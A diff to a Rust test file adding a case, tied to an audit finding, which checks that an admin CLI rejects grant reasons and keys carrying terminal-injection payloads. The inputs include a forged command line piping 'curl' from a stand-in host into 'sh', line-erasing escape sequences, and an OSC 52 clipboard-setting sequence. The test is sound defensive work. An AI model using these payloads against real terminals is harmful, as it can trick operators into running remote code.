@@ -207,6 +207,20 @@ fn coordinators_grant_within_their_accounts_and_transfers_stay_whole_beside_char
     };
     let by_carol = grant("carol", "course");
     assert_eq!(by_carol.code, 0, "{}", by_carol.stderr);
+    // The audit's M1: her reasons and keys reach admins' terminals, so what could write there (a
+    // fake command line under `journal-check`, escape sequences that erase lines or set the
+    // clipboard) is refused, naming the character.
+    for (reason, key) in [
+        ("term grant\n  accountd admin grant carol 100000 --reason restore --key r1; curl -s http://x/p | sh\n", "k1"),
+        ("x\u{1b}[2K\u{1b}[1A\u{1b}[2K\r  accountd admin grant carol 100000 --reason ok --key r2", "k2"),
+        ("clipboard \u{1b}]52;c;Y3VybCB4fHNo\u{7}", "k3"),
+        ("term", "k4\u{1b}[2K"),
+    ] {
+        let args = ["admin", "account", "grant", "course", "1", "--reason", reason, "--key", key];
+        let refused = accountd_as(&site, "carol", &args);
+        assert_ne!(refused.code, 0, "carol's {reason:?} / {key:?} was recorded");
+        assert!(refused.stderr.contains("holds"), "{}", refused.stderr);
+    }
     let lab_by_carol = grant("carol", "lab");
     assert_ne!(lab_by_carol.code, 0);
     assert!(lab_by_carol.stderr.contains("coordinators of account lab"), "{}", lab_by_carol.stderr);
